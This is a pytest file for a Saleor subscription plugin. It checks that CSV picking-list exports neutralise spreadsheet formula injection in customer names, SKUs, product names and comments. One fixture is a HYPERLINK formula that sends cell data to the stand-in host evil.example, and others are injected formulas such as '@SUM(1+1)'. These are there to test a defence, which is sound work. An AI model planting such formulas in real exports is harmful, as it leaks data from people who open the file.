"""Issue 14 item 7: CSV exports never carry a formula (one CSV writer for the package)."""
import base64
import csv
import datetime
import io

import pytest

from saleor_plugins.core.permissions import SubscriptionPermissions

from . import factories
from .subscription_helpers import gid, make_subscription, subscriptions_on  # noqa: F401

DOCUMENT = """query($d: Date!) { subscriptionPickingListDocument(deliveryDate: $d, format: CSV) {
  filename contentType contentBase64 } }"""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/steal?d="&A1, "Klikk her")'


def test_item14_07_picking_list_csv_neutralises_formulas_from_customers_and_products(
        api, shop, subscriptions_on):
    customer = factories.create_customer("kari@example.com", first_name="@SUM(1+1)",
                                         last_name="Nordmann")
    warehouse_variant = factories.create_variant("99.00", "-2+3 Kaffe", "+KAFFE-X",
                                                 warehouse=shop.warehouse)
    anchor = datetime.date.today() + datetime.timedelta(days=12)
    first = make_subscription(customer, warehouse_variant, anchor, interval="1m", comment=LINK)
    other = factories.create_customer("ola@example.com", first_name="Ola", last_name="Hansen")
    make_subscription(other, shop.coffee, anchor, interval="1m", comment="\t=1+1")
    day = first.next_delivery_date
    manager = factories.create_staff(permissions=[SubscriptionPermissions.MANAGE_SUBSCRIPTIONS])

    document = api(manager).data(DOCUMENT, {"d": day.isoformat()})[
        "subscriptionPickingListDocument"]
    rows = list(csv.reader(io.StringIO(base64.b64decode(document["contentBase64"]).decode())))
    header, body = rows[0], rows[1:]
    assert len(body) == 2
    cells = [cell for row in body for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
    kari = dict(zip(header, next(row for row in body if row[2] == customer.email)))
    assert kari["comments"] == "'" + LINK
    assert kari["customer"] == "'@SUM(1+1) Nordmann"
    assert kari["sku"] == "'+KAFFE-X"
    assert kari["product"].startswith("'-2+3 Kaffe")
    ola = dict(zip(header, next(row for row in body if row[2] == other.email)))
    assert ola["comments"] == "'=1+1"  # the comment is stripped; "=1+1" then neutralised
    assert ola["quantity"] == "1"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_item14_07_every_formula_start_is_neutralised(text):
    from saleor_plugins.core.spreadsheet import csv_bytes, safe_cell

    assert safe_cell(text) == "'" + text
    assert csv_bytes(["a"], [[text]]).decode().splitlines()[1].lstrip('"').startswith("'")


def test_plain_cells_and_numbers_are_unchanged():
    from saleor_plugins.core.spreadsheet import csv_bytes, safe_cell

    assert [safe_cell(v) for v in ("Kari", "", "a=b", 3, -2)] == ["Kari", "", "a=b", 3, -2]
    assert csv_bytes(["n", "q"], [["Kari", -2]]) == b"n,q\r\nKari,-2\r\n"
